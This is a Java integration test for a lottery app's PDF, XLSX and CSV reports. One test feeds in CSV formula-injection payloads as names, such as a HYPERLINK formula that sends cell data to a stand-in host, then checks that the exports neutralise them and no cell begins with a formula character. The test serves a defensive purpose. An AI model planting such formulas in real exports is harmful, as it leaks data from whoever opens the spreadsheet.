package com.luckify.report;

import static com.luckify.support.LotteryFixtures.lottery;
import static com.luckify.support.LotteryFixtures.prize;
import static org.assertj.core.api.Assertions.assertThat;

import com.luckify.batch.draw.DrawLauncher;
import com.luckify.batch.reconciliation.ReconciliationLauncher;
import com.luckify.lottery.LotteryService;
import com.luckify.support.DrawFixtures;
import com.luckify.support.IntegrationTest;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Timestamp;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.batch.core.job.JobExecution;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Each report generated from data this test makes, read back the way a person would: the PDF's text through
 * poppler's {@code pdftotext} (Chinese names must come out, so the embedded font works), the XLSX through Apache
 * POI and the CSV as text, all with the figures the database holds. A page of each PDF is rendered to PNG with
 * {@code pdftoppm} into {@code target/report-artifacts} to be looked at.
 */
class ReportsIT extends IntegrationTest {

    private static final Path ARTIFACTS = Path.of("target", "report-artifacts");
    private static final ZoneId BUSINESS = ZoneId.of("Asia/Shanghai");

    @Autowired
    ReportService reports;

    @Autowired
    DrawLauncher draws;

    @Autowired
    LotteryService lotteryService;

    @Autowired
    ReconciliationLauncher reconciliation;

    @Test
    void theDrawAuditNamesTheLotteryItsProofAndEveryWinnerInEachFormat() throws Exception {
        String name = "审计抽奖" + UUID.randomUUID().toString().substring(0, 4);
        long lotteryId = drawnLottery(name, 40, "{\"type\":1,\"name\":\"蓝牙耳机\",\"count\":3,\"thumb\":\"\",\"level\":1,"
                + "\"grantType\":1},{\"type\":1,\"name\":\"保温杯\",\"count\":5,\"thumb\":\"\",\"level\":2,\"grantType\":1}");
        String seedHash = jdbc.queryForObject("SELECT seed_hash FROM draw_record WHERE lottery_id = ?", String.class, lotteryId);
        List<Long> winners = jdbc.queryForList("SELECT user_id FROM lottery_participation WHERE lottery_id = ? AND is_won = 1"
                + " ORDER BY user_id", Long.class, lotteryId);

        String pdf = pdfText(reports.renderToBytes(ReportRequest.drawAudit(lotteryId, ReportFormat.PDF)), "draw-audit");
        List<List<String>> sheet = xlsx(reports.renderToBytes(ReportRequest.drawAudit(lotteryId, ReportFormat.XLSX)));
        String csv = new String(reports.renderToBytes(ReportRequest.drawAudit(lotteryId, ReportFormat.CSV)),
                StandardCharsets.UTF_8);

        assertThat(winners).hasSize(8);
        assertThat(pdf).contains("抽奖审计报告", name, "蓝牙耳机", "保温杯", seedHash, "合计 Total: 8");
        assertThat(pdf).contains(HexFormat.of().formatHex(DrawFixtures.seedOf(jdbc, lotteryId)));
        for (long winner : winners) {
            assertThat(pdf).contains(Long.toString(winner));
            assertThat(csv).contains(Long.toString(winner));
        }
        assertThat(sheet.stream().flatMap(List::stream).filter(cell -> winners.contains(parseLong(cell))).count())
                .isEqualTo(8);
        assertThat(csv).contains(name, "蓝牙耳机");
    }

    @Test
    void thePrizeReportHasEachPrizeBySponsorWithSubtotalsTotalsAndTheClaims() throws Exception {
        String owner = newUserToken();
        String sponsorName = "赞助" + UUID.randomUUID().toString().substring(0, 4);
        long sponsorId = api.post("/usercenter/v1/userSponsor/addSponsor", "{\"userId\":0,\"type\":1,\"appletType\":0,"
                + "\"isShow\":1,\"name\":\"" + sponsorName + "\",\"desc\":\"d\",\"avatar\":\"\",\"qr_code\":\"\","
                + "\"inputA\":\"\",\"inputB\":\"\"}", owner).data().path("id").asLong();
        String lotteryName = "财务抽奖" + UUID.randomUUID().toString().substring(0, 4);
        // a lottery announced far in the past period of its own, so other tests' lotteries stay out of the figures
        long lotteryId = drawnLottery(lotteryName, 12, "{\"type\":1,\"name\":\"电饭煲\",\"count\":4,\"thumb\":\"\","
                + "\"level\":1,\"grantType\":1}", owner, sponsorId);
        LocalDate day = LocalDate.of(2001, 1, 1).plusDays(Math.floorMod(lotteryId, 3000));
        jdbc.update("UPDATE lottery SET announce_time = ? WHERE id = ?",
                Timestamp.from(day.atTime(12, 0).atZone(BUSINESS).toInstant()), lotteryId);
        long claimer = jdbc.queryForObject("SELECT id FROM lottery_participation WHERE lottery_id = ? AND is_won = 1"
                + " ORDER BY id LIMIT 1", Long.class, lotteryId);
        jdbc.update("INSERT INTO prize_claim (participation_id, prize_id, contact_name, mobile, address) SELECT id, prize_id,"
                + " '张三', '13800000000', '北京' FROM lottery_participation WHERE id = ?", claimer);
        ReportRequest period = ReportRequest.period(ReportType.PRIZE_FINANCE, day, day, ReportFormat.PDF);

        String pdf = pdfText(reports.renderToBytes(period), "prize-report");
        List<List<String>> sheet = xlsx(reports.renderToBytes(new ReportRequest(ReportType.PRIZE_FINANCE, ReportFormat.XLSX,
                null, null, day, day)));
        String csv = new String(reports.renderToBytes(new ReportRequest(ReportType.PRIZE_FINANCE, ReportFormat.CSV, null,
                null, day, day)), StandardCharsets.UTF_8);

        assertThat(pdf).contains("奖品财务报表", sponsorName, lotteryName, "电饭煲", "小计 Subtotal", "合计 Total");
        // offered 4, issued 4, claimed 1; the deadline is a week after the original announce time: still claimable
        List<String> prizeRow = sheet.stream().filter(row -> row.contains("电饭煲")).findFirst().orElseThrow();
        assertThat(prizeRow).containsSubsequence("4", "4", "1");
        assertThat(csv).contains(lotteryName, "电饭煲", sponsorName);
    }

    @Test
    void theReconciliationReportListsARunsFindingsByKind() throws Exception {
        long lotteryId = createLottery(newUserToken(), lottery(3, 0, prize(1, 10, 1_000_000)));
        String winner = newUserToken();
        api.post("/lottery/v1/lottery/instantParticipation", "{\"lotteryId\":" + lotteryId + "}", winner);
        long commentId = api.post("/comment/v1/comment/addComment", "{\"lotteryId\":" + lotteryId
                + ",\"prizeName\":\"\",\"content\":\"对账\",\"pics\":\"\"}", winner).data().path("id").asLong();
        jdbc.update("UPDATE `comment` SET praise_count = 9 WHERE id = ?", commentId);
        JobExecution run = reconciliation.run();
        String runId = run.getJobParameters().getString("runId");

        String pdf = pdfText(reports.renderToBytes(ReportRequest.reconciliation(runId, ReportFormat.PDF)), "reconciliation");
        String csv = new String(reports.renderToBytes(ReportRequest.reconciliation(runId, ReportFormat.CSV)),
                StandardCharsets.UTF_8);

        assertThat(pdf).contains("对账报告", runId, "PRAISE_COUNT", "comment " + commentId, "是 yes");
        assertThat(csv).contains("PRAISE_COUNT", "comment " + commentId);
    }

    @Test
    void namesASpreadsheetWouldRunComeOutAsTextInEveryCsv() throws Exception {
        String owner = newUserToken();
        long sponsorId = api.post("/usercenter/v1/userSponsor/addSponsor", "{\"userId\":0,\"type\":1,\"appletType\":0,"
                + "\"isShow\":1,\"name\":\"@SUM(A1)\",\"desc\":\"d\",\"avatar\":\"\",\"qr_code\":\"\","
                + "\"inputA\":\"\",\"inputB\":\"\"}", owner).data().path("id").asLong();
        String lotteryName = "=HYPERLINK(\\\"http://x\\\"&A1,\\\"x\\\")";
        long lotteryId = drawnLottery(lotteryName, 3, "{\"type\":1,\"name\":\"+SUM(1,2)\",\"count\":2,\"thumb\":\"\","
                + "\"level\":1,\"grantType\":1}", owner, sponsorId);
        LocalDate day = LocalDate.of(2001, 1, 1).plusDays(Math.floorMod(lotteryId, 3000));
        jdbc.update("UPDATE lottery SET announce_time = ? WHERE id = ?",
                Timestamp.from(day.atTime(12, 0).atZone(BUSINESS).toInstant()), lotteryId);

        String prizeReport = new String(reports.renderToBytes(new ReportRequest(ReportType.PRIZE_FINANCE, ReportFormat.CSV,
                null, null, day, day)), StandardCharsets.UTF_8);
        String drawAudit = new String(reports.renderToBytes(ReportRequest.drawAudit(lotteryId, ReportFormat.CSV)),
                StandardCharsets.UTF_8);

        // a leading quote makes each one text; the quotes inside are doubled, as CSV requires
        String hyperlink = "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")\"";
        assertThat(prizeReport).contains(hyperlink, "\"'+SUM(1,2)\"");
        // here the sponsor's name comes after a label in its cell: nothing a spreadsheet would run, so left as it is
        assertThat(prizeReport).contains("赞助商 Sponsor: @SUM(A1)");
        // the draw audit puts the lottery and prize names after a label, and the sponsor's name alone in its cell
        assertThat(drawAudit).contains("=HYPERLINK(\"\"http://x\"\"&A1,\"\"x\"\")", "L1 · +SUM(1,2)", "\"'@SUM(A1)\"");
        for (String csv : List.of(prizeReport, drawAudit)) {
            assertThat(cells(csv)).as("no cell a spreadsheet would run").noneMatch(cell -> !cell.isEmpty()
                    && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
        }
        // the figures the product computed stay numbers: offered 2, issued 2 on the prize's row
        assertThat(prizeReport.lines().filter(line -> line.contains("'+SUM(1,2)")).findFirst().orElseThrow())
                .contains(",2,2,");
    }

    @Test
    void thePointsLiabilityReportAgreesWithTheLedger() throws Exception {
        api.post("/checkin/v1/checkin", "{}", newUserToken());
        LocalDate today = LocalDate.now(BUSINESS);
        Instant from = today.atStartOfDay(BUSINESS).toInstant();
        Instant to = today.plusDays(1).atStartOfDay(BUSINESS).toInstant();
        long granted = jdbc.queryForObject("SELECT COALESCE(SUM(integral), 0) FROM integral_record WHERE integral > 0"
                + " AND create_time >= ? AND create_time < ?", Long.class, Timestamp.from(from),
                Timestamp.from(to));
        long outstanding = jdbc.queryForObject("SELECT COALESCE(SUM(integral), 0) FROM integral_record WHERE create_time < ?",
                Long.class, Timestamp.from(to));

        String pdf = pdfText(reports.renderToBytes(ReportRequest.period(ReportType.POINTS_LIABILITY, today, today,
                ReportFormat.PDF)), "points-liability");
        List<List<String>> sheet = xlsx(reports.renderToBytes(ReportRequest.period(ReportType.POINTS_LIABILITY, today, today,
                ReportFormat.XLSX)));

        assertThat(pdf).contains("心愿值负债报表", "签到 CHECKIN", String.format("%,d", granted), String.format("%,d", outstanding));
        assertThat(sheet.stream().flatMap(List::stream).toList()).contains(String.valueOf(granted), String.valueOf(outstanding));
    }

    // ------------------------------------------------------------------------------------------------ helpers

    private long drawnLottery(String name, int participants, String prizes) throws Exception {
        return drawnLottery(name, participants, prizes, newUserToken(), 0);
    }

    private long drawnLottery(String name, int participants, String prizes, String owner, long sponsorId) throws Exception {
        long now = Instant.now().getEpochSecond();
        long lotteryId = createLottery(owner, "{\"name\":\"" + name + "\",\"thumb\":\"\",\"announceType\":1,\"announceTime\":"
                + (now + 86_400) + ",\"joinNumber\":0,\"introduce\":\"\",\"awardDeadline\":" + (now + 8 * 86_400)
                + ",\"sponsorId\":" + sponsorId + ",\"prizes\":[" + prizes + "],\"isClocked\":0,\"publishType\":1}");
        DrawFixtures.bulkParticipants(jdbc, lotteryId, participants);
        jdbc.update("UPDATE lottery SET announce_time = NOW(3) - INTERVAL 1 MINUTE WHERE id = ?", lotteryId);
        lotteryService.changed(lotteryId);
        draws.draw(lotteryId);
        return lotteryId;
    }

    /** Every cell of a CSV (RFC 4180: quoted cells may hold commas, doubled quotes and line breaks), unquoted. */
    private static List<String> cells(String csv) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }

    /** The PDF's text by pdftotext; its first page saved as PNG for a person to look at. */
    private static String pdfText(byte[] pdf, String name) throws IOException, InterruptedException {
        Files.createDirectories(ARTIFACTS);
        Path file = ARTIFACTS.resolve(name + ".pdf");
        Files.write(file, pdf);
        run("pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile", file.toString(),
                ARTIFACTS.resolve(name).toString());
        Path text = ARTIFACTS.resolve(name + ".txt");
        run("pdftotext", "-enc", "UTF-8", file.toString(), text.toString());
        return Files.readString(text, StandardCharsets.UTF_8);
    }

    private static void run(String... command) throws IOException, InterruptedException {
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        if (!process.waitFor(60, TimeUnit.SECONDS) || process.exitValue() != 0) {
            throw new AssertionError(String.join(" ", command) + " failed: " + output);
        }
    }

    /** Every row's cells as text (numbers without a fraction written as integers). */
    private static List<List<String>> xlsx(byte[] content) throws IOException {
        List<List<String>> rows = new ArrayList<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(content))) {
            Sheet sheet = workbook.getSheetAt(0);
            for (Row row : sheet) {
                List<String> cells = new ArrayList<>();
                for (Cell cell : row) {
                    cells.add(cell.getCellType() == CellType.NUMERIC
                            ? (cell.getNumericCellValue() == Math.rint(cell.getNumericCellValue())
                                    ? String.valueOf((long) cell.getNumericCellValue()) : String.valueOf(cell.getNumericCellValue()))
                            : cell.toString());
                }
                rows.add(cells);
            }
        }
        return rows;
    }

    private static Long parseLong(String text) {
        try {
            return Long.valueOf(text.strip());
        } catch (NumberFormatException e) {
            return null;
        }
    }
}
